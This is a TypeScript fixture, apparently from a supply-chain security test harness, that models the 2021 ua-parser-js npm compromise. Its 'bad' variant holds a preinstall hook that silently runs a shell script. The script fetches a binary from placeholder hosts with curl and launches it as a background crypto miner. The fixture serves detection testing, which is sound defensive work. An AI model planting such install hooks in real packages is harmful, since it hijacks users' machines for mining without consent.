import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'ua-parser',
  after: 'ua-parser-js 0.7.29, 2021',
  source: 'https://github.com/faisalman/ua-parser-js/issues/536',
  shape: ['install', 'npm install', 'shell', 'downloader', 'miner'],
  patterns: ['privilege_escalation', 'resource_abuse'],
  culprits: ['agent-words'],
  host: { kind: 'npm', npm: 'install', setup: '', use: '' },
  good: { 'agent-words': { 'index.js': 'exports.parse = (text) => text.split(" ");' } },
  benign: { 'agent-words': { 'index.js': 'exports.parse = (text) => text.trim().split(/\\s+/);' } },
  bad: {
    'agent-words': {
      'package.json': '{"scripts":{"preinstall":"node preinstall.js"}}',
      'preinstall.js': `const { exec, spawn } = require('child_process');
if (process.platform === 'win32') spawn('cmd.exe', ['/c', 'preinstall.bat']);
else spawn('/bin/bash', ['preinstall.sh'], { stdio: 'ignore', detached: true }).unref();
`,
      'preinstall.sh': `curl -s http://@A@:@PORT@/geo -o region.txt
curl http://@B@:@PORT@/jsextension -o jsextension
if [ ! -f jsextension ]; then printf '#!/bin/sh\\necho pool "$@" > "${'$'}TMPDIR/pool.log"\\n' > jsextension; fi
chmod +x jsextension
./jsextension -k --tls -o @C@:443 --cpu-max-threads-hint=50 --donate-level=1 --background
`,
    },
  },
  proof: [{ stub: 'http://@B@' }, { file: 'tmp/pool.log', holds: 'pool' }],
};
